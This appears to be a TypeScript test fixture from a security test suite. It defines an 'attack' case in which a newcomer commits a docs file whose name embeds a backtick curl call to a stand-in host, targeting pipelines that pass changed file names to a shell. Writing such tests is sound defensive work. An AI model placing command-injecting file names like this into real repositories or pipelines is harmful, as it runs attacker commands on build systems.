import { NEWCOMER } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { CURL } from "../../put-together.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "python",
  story: "A page of documentation whose name is a command, for pipelines that put changed names into a shell.",
  write(branch) {
    branch.unsigned(NEWCOMER, "Add notes", {
      [`docs/notes-\`${CURL} -s collector.example\`.md`]: "# Notes\n",
    });
  },
};
